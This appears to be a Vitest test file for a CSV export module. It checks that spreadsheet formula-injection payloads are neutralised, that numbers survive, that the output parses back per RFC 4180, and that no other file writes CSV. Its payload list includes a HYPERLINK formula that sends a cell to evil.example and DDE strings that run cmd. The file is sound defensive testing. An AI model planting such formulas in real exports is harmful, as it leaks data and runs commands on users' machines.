import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, relative } from 'node:path'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvCell, neutralise, toCsv, type ExportColumn } from './csv'

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '-cmd',
  '=1',
]

describe('CSV export', () => {
  it('neutralises every formula payload with a leading single quote', () => {
    for (const p of PAYLOADS) expect(neutralise(p), JSON.stringify(p)).toBe(`'${p}`)
  })

  it('keeps numbers as numbers, negative ones included, and leaves ordinary text alone', () => {
    expect(csvCell(-12.5)).toBe('-12.5')
    expect(csvCell(0)).toBe('0')
    expect(csvCell('-12.5')).toBe('-12.5')
    expect(csvCell('+3')).toBe('+3')
    expect(csvCell('-1e-7')).toBe('-1e-7')
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(null)).toBe('')
    expect(csvCell('Spring sale - UK')).toBe('Spring sale - UK')
    expect(csvCell('a=b')).toBe('a=b')
    expect(csvCell('email@example.com')).toBe('email@example.com')
  })

  it('writes RFC 4180 text a spreadsheet reads back as the neutralised values', () => {
    interface Row {
      name: string
      spend: number
    }
    const cols: ExportColumn<Row>[] = [
      { header: 'name', value: (r) => r.name },
      { header: 'spend', value: (r) => r.spend },
    ]
    const rows: Row[] = PAYLOADS.map((name, i) => ({ name, spend: -i * 1.5 - 1 }))
    rows.push({ name: 'Quote " and, comma\nnewline', spend: 3 })
    const text = toCsv(cols, rows)
    const back = Papa.parse<string[]>(text, { skipEmptyLines: true }).data
    expect(back[0]).toEqual(['name', 'spend'])
    expect(back.slice(1).map((r) => r[0])).toEqual([...PAYLOADS.map((p) => `'${p}`), 'Quote " and, comma\nnewline'])
    expect(back.slice(1).map((r) => Number(r[1]))).toEqual(rows.map((r) => r.spend))
    // No cell of the file starts with a formula trigger.
    for (const r of back.slice(1)) expect(r[0]).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('is the only CSV writer: no page or command builds CSV on its own', () => {
    const root = join(import.meta.dirname, '../..')
    const offenders: string[] = []
    const walk = (dir: string): void => {
      for (const name of readdirSync(dir)) {
        const p = join(dir, name)
        if (statSync(p).isDirectory()) walk(p)
        else if (/\.tsx?$/.test(name) && !/\.test\.tsx?$/.test(name)) {
          const src = readFileSync(p, 'utf8')
          if (/Papa\.unparse|unparse\(|type: *['"]text\/csv/.test(src)) offenders.push(relative(root, p))
        }
      }
    }
    for (const d of ['renderer/src', 'electron', 'shared']) walk(join(root, d))
    expect(offenders.filter((f) => f !== 'renderer/src/lib/export.ts')).toEqual([])
  })
})
